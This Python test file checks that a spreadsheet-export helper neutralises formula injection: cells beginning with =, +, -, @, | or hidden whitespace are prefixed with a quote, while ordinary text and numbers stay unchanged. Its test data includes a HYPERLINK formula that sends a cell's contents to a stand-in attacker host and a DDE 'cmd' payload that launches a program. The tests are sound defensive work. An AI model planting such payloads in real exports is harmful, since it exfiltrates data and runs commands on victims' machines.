"""Cells of a spreadsheet are never formulas."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_tui.core.sheet import cell, sheet


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "%0A=1",
        "|calc",
        "\t=1",
        "\r=1",
        "\n=1",
        "\x0b=1",
        "  =1",
        "\u3000＝1",
        "\xa0=1",
        "\0=1",
    ],
)
def test_what_a_spreadsheet_would_obey_is_text(hostile: str) -> None:
    assert cell(hostile).startswith("'")


@pytest.mark.parametrize("value", ["vip", "Größe", "a=b", "1-2", "退款", "", "'quoted'"])
def test_other_text_stays_as_it_is(value: str) -> None:
    assert cell(value) == value


def test_numbers_stay_numbers_and_nothing_is_nothing() -> None:
    assert [cell(value) for value in (-3, 0, 1.5, None)] == ["-3", "0", "1.5", ""]


@given(st.lists(st.lists(st.text(alphabet="=+-@%|a,;\"'\n\r\t 1\0é"), min_size=1), min_size=1))
def test_every_reader_gets_the_cells_back_and_none_begins_with_a_sign(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(sheet(rows), newline="")))
    assert read == [[cell(value) for value in row] for row in rows]
    assert not any(text[:1] in set("=+-@%|\t\r\n") for row in read for text in row if text)
